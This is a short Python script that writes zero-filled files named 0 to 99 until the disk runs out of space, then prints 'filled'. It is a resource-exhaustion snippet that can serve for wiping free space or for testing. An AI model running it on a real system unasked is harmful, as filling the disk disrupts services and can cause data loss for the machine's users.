for number in range(100):
    try:
        with open(str(number), 'wb') as file:
            while True:
                file.write(bytes(1 << 20))
    except OSError:
        pass
print('filled')
